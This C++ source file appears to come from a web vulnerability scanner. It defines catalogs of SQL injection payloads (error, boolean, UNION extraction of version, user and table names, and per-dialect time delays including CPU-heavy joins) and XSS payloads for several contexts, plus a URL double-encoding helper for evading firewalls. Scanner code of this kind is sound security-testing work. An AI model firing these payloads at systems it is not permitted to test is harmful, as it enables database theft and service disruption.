/**
 * @file payload_catalog.cpp
 * @brief SQL injection and XSS payload tables
 */

#include "payload_catalog.h"
#include <cmath>
#include <iomanip>
#include <map>
#include <sstream>

namespace {

Payload make(const std::string& name, const std::string& text, Strategy strategy,
             Risk risk, const std::string& description) {
    Payload p;
    p.name = name;
    p.payload = text;
    p.strategy = strategy;
    p.risk = risk;
    p.description = description;
    p.cwe_id = (strategy == Strategy::REFLECTED || strategy == Strategy::STORED ||
                strategy == Strategy::DOM) ? "CWE-79" : "CWE-89";
    return p;
}

Payload boolean(const std::string& name, const std::string& text, BooleanExpectation e) {
    Payload p = make(name, text, Strategy::BOOLEAN_BASED, Risk::HIGH,
                     "Boolean condition that changes the rows a query returns");
    p.expectation = e;
    return p;
}

Payload timed(const std::string& name, const std::string& text, const std::string& dialect,
              double delay, bool aggressive) {
    Payload p = make(name, text, Strategy::TIME_BASED, Risk::HIGH,
                     aggressive ? "CPU-heavy query combined with a delay"
                                : "Conditional delay executed by the database");
    p.dialect = dialect;
    p.delay_seconds = delay;
    p.aggressive = aggressive;
    return p;
}

Payload xss_payload(const std::string& name, const std::string& text, Strategy strategy,
                    const std::string& context, Risk risk, const std::string& description) {
    Payload p = make(name, text, strategy, risk, description);
    p.context = context;
    return p;
}

} // namespace

PayloadCatalog PayloadCatalog::sql_injection(const Options& opts) {
    PayloadCatalog c;
    auto& v = c.payloads_;

    // Error-inducing quote breaks
    Payload e;
    e = make("single_quote", "'", Strategy::ERROR_BASED, Risk::HIGH, "Unbalanced single quote");
    v.push_back(e);
    e = make("double_quote", "\"", Strategy::ERROR_BASED, Risk::HIGH, "Unbalanced double quote");
    v.push_back(e);
    e = make("quote_paren", "')", Strategy::ERROR_BASED, Risk::HIGH, "Quote and closing parenthesis");
    v.push_back(e);
    e = make("backslash", "\\", Strategy::ERROR_BASED, Risk::HIGH, "Escape character breaking the literal");
    v.push_back(e);
    e = make("mixed_quotes", "1'\"", Strategy::ERROR_BASED, Risk::HIGH, "Mixed quote break");
    v.push_back(e);

    // Boolean true/false pairs
    v.push_back(boolean("or_true_quoted", "' OR '1'='1", BooleanExpectation::OR_TRUE));
    v.push_back(boolean("or_true_value", "1' OR '1'='1", BooleanExpectation::OR_TRUE));
    v.push_back(boolean("or_true_numeric", "1 OR 1=1", BooleanExpectation::OR_TRUE));
    v.push_back(boolean("and_true_quoted", "1' AND '1'='1", BooleanExpectation::AND_TRUE));
    v.push_back(boolean("and_false_quoted", "1' AND '1'='2", BooleanExpectation::AND_FALSE));
    v.push_back(boolean("and_false_numeric", "1 AND 1=2", BooleanExpectation::AND_FALSE));

    // UNION probes with increasing column counts
    int max_columns = opts.union_max_columns < 1 ? 1 : opts.union_max_columns;
    for (int n = 1; n <= max_columns; ++n) {
        std::string cols;
        for (int i = 0; i < n; ++i) {
            cols += (i == 0) ? "NULL" : ",NULL";
        }
        Payload u = make("union_null_" + std::to_string(n), "' UNION SELECT " + cols + "-- ",
                         Strategy::UNION_BASED, Risk::HIGH, "UNION column padding probe");
        u.columns = n;
        v.push_back(u);
    }
    // Metadata extraction variants
    v.push_back(make("union_version", "1' UNION SELECT null,version()-- ", Strategy::UNION_BASED,
                     Risk::CRITICAL, "Extract database version"));
    v.push_back(make("union_database", "1' UNION SELECT null,database()-- ", Strategy::UNION_BASED,
                     Risk::CRITICAL, "Extract current database name"));
    v.push_back(make("union_user", "1' UNION SELECT null,user()-- ", Strategy::UNION_BASED,
                     Risk::CRITICAL, "Extract current database user"));
    v.push_back(make("union_at_version", "' UNION SELECT @@version,NULL-- ", Strategy::UNION_BASED,
                     Risk::CRITICAL, "Extract server version variable"));
    v.push_back(make("union_schema", "' UNION SELECT table_name,NULL FROM information_schema.tables-- ",
                     Strategy::UNION_BASED, Risk::CRITICAL, "Enumerate tables"));

    // Time delays per dialect
    double d = opts.base_delay_seconds;
    std::string secs = std::to_string(static_cast<int>(std::ceil(d)));
    v.push_back(timed("mysql_sleep", "1' AND SLEEP(" + secs + ")-- ", "mysql", d, false));
    v.push_back(timed("mysql_sleep_subquery", "1' AND (SELECT * FROM (SELECT(SLEEP(" + secs + ")))a)-- ",
                      "mysql", d, false));
    v.push_back(timed("mysql_sleep_numeric", "1 AND SLEEP(" + secs + ")", "mysql", d, false));
    v.push_back(timed("postgresql_pg_sleep", "1'; SELECT pg_sleep(" + secs + ")-- ", "postgresql", d, false));
    v.push_back(timed("postgresql_pg_sleep_cond", "1' AND 1=(SELECT 1 FROM pg_sleep(" + secs + "))-- ",
                      "postgresql", d, false));
    v.push_back(timed("mssql_waitfor", "1'; WAITFOR DELAY '0:0:" + secs + "'-- ", "mssql", d, false));
    v.push_back(timed("oracle_dbms_pipe", "1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a'," + secs + ")-- ",
                      "oracle", d, false));

    // Heavy fallbacks for targets that ignore plain delays
    v.push_back(timed("mysql_heavy_join",
                      "1' AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, "
                      "information_schema.columns C)>0 AND SLEEP(" + secs + ")-- ", "mysql", d, true));
    v.push_back(timed("postgresql_heavy_join",
                      "1' AND (SELECT COUNT(*) FROM generate_series(1,1000000) A, generate_series(1,10) B)>0 "
                      "AND 1=(SELECT 1 FROM pg_sleep(" + secs + "))-- ", "postgresql", d, true));
    v.push_back(timed("mssql_heavy_join",
                      "1'; IF (SELECT COUNT(*) FROM sys.all_objects A, sys.all_objects B)>0 "
                      "WAITFOR DELAY '0:0:" + secs + "'-- ", "mssql", d, true));
    v.push_back(timed("sqlite_randomblob",
                      "1' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))-- ", "sqlite", d, true));

    return c;
}

PayloadCatalog PayloadCatalog::xss() {
    PayloadCatalog c;
    auto& v = c.payloads_;

    // Reflected, HTML body context
    v.push_back(xss_payload("script_alert", "<script>alert(1)</script>", Strategy::REFLECTED, "html",
                            Risk::HIGH, "Basic script tag injection"));
    v.push_back(xss_payload("img_onerror", "<img src=x onerror=alert(1)>", Strategy::REFLECTED, "html",
                            Risk::HIGH, "Image tag with onerror handler"));
    v.push_back(xss_payload("svg_onload", "<svg onload=alert(1)>", Strategy::REFLECTED, "html",
                            Risk::HIGH, "SVG element with onload handler"));
    v.push_back(xss_payload("tag_breakout_script", "\"><script>alert(1)</script>", Strategy::REFLECTED, "html",
                            Risk::HIGH, "Close the enclosing tag, then inject a script"));

    // Attribute context
    v.push_back(xss_payload("attr_onmouseover_single", "' onmouseover=alert(1) '", Strategy::REFLECTED,
                            "attribute", Risk::HIGH, "Single-quote attribute escape with event handler"));
    v.push_back(xss_payload("attr_onfocus_double", "\" autofocus onfocus=alert(1) x=\"", Strategy::REFLECTED,
                            "attribute", Risk::HIGH, "Double-quote attribute escape with event handler"));

    // JavaScript string context
    v.push_back(xss_payload("js_single_quote_escape", "';alert(1);//", Strategy::REFLECTED, "javascript",
                            Risk::HIGH, "Break out of a single-quoted JavaScript string"));
    v.push_back(xss_payload("js_double_quote_escape", "\";alert(1);//", Strategy::REFLECTED, "javascript",
                            Risk::HIGH, "Break out of a double-quoted JavaScript string"));
    v.push_back(xss_payload("js_script_close", "</script><script>alert(1)</script>", Strategy::REFLECTED,
                            "javascript", Risk::HIGH, "Terminate the script block and open a new one"));

    // URL/href context
    v.push_back(xss_payload("javascript_uri", "javascript:alert(1)", Strategy::REFLECTED, "url",
                            Risk::MEDIUM, "JavaScript protocol in a link target"));

    // DOM-based
    v.push_back(xss_payload("dom_script", "<script>alert(1)</script>", Strategy::DOM, "html",
                            Risk::HIGH, "Script written into the DOM by a client-side sink"));
    v.push_back(xss_payload("dom_img_onerror", "<img src=x onerror=alert(1)>", Strategy::DOM, "html",
                            Risk::HIGH, "Markup assigned to innerHTML by a client-side sink"));

    // Stored
    v.push_back(xss_payload("stored_script", "<script>alert(1)</script>", Strategy::STORED, "html",
                            Risk::CRITICAL, "Persisted script tag"));
    v.push_back(xss_payload("stored_img_onerror", "<img src=x onerror=alert(1)>", Strategy::STORED, "html",
                            Risk::CRITICAL, "Persisted image onerror handler"));

    return c;
}

std::vector<Payload> PayloadCatalog::by_strategy(Strategy strategy, bool include_aggressive) const {
    std::vector<Payload> out;
    for (const auto& p : payloads_) {
        if (p.strategy != strategy) continue;
        if (p.aggressive && !include_aggressive) continue;
        out.push_back(p);
    }
    return out;
}

std::vector<Payload> PayloadCatalog::aggressive() const {
    std::vector<Payload> out;
    for (const auto& p : payloads_) {
        if (p.aggressive) out.push_back(p);
    }
    return out;
}

const char* strategy_name(Strategy s) {
    switch (s) {
        case Strategy::ERROR_BASED: return "error";
        case Strategy::BOOLEAN_BASED: return "boolean";
        case Strategy::UNION_BASED: return "union";
        case Strategy::TIME_BASED: return "time";
        case Strategy::REFLECTED: return "reflected";
        case Strategy::STORED: return "stored";
        case Strategy::DOM: return "dom";
    }
    return "unknown";
}

const char* risk_name(Risk r) {
    switch (r) {
        case Risk::CRITICAL: return "critical";
        case Risk::HIGH: return "high";
        case Risk::MEDIUM: return "medium";
        case Risk::LOW: return "low";
        case Risk::INFO: return "info";
    }
    return "info";
}

const char* sub_type_for(Strategy s) {
    switch (s) {
        case Strategy::ERROR_BASED: return "error_based_sqli";
        case Strategy::BOOLEAN_BASED: return "boolean_blind_sqli";
        case Strategy::UNION_BASED: return "union_based_sqli";
        case Strategy::TIME_BASED: return "time_based_sqli";
        case Strategy::REFLECTED: return "xss_reflected";
        case Strategy::STORED: return "xss_stored";
        case Strategy::DOM: return "xss_dom";
    }
    return "unknown";
}

std::string mark_payload(const std::string& payload, const std::string& marker) {
    static const std::string call = "alert(1)";
    std::string out = payload;
    size_t pos = out.find(call);
    if (pos == std::string::npos) {
        return out + marker;
    }
    while (pos != std::string::npos) {
        std::string replacement = "alert('" + marker + "')";
        out.replace(pos, call.size(), replacement);
        pos = out.find(call, pos + replacement.size());
    }
    return out;
}

std::string waf_encode(const std::string& payload, bool double_encode) {
    static const std::map<char, std::string> special = {
        {' ', "%20"}, {'"', "%22"}, {'#', "%23"}, {'%', "%25"}, {'&', "%26"},
        {'+', "%2B"}, {',', "%2C"}, {'/', "%2F"}, {':', "%3A"}, {';', "%3B"},
        {'<', "%3C"}, {'>', "%3E"}, {'?', "%3F"}, {'@', "%40"}, {'[', "%5B"},
        {'\\', "%5C"}, {']', "%5D"}, {'^', "%5E"}, {'`', "%60"}, {'{', "%7B"},
        {'|', "%7C"}, {'}', "%7D"}, {'\n', "%0A"}, {'\r', "%0D"}, {'\t', "%09"},
    };

    std::string out;
    for (char ch : payload) {
        auto it = special.find(ch);
        if (it != special.end()) {
            out += it->second;
        } else {
            out += ch;
        }
    }
    if (!double_encode) return out;

    std::string twice;
    for (char ch : out) {
        twice += (ch == '%') ? "%25" : std::string(1, ch);
    }
    return twice;
}
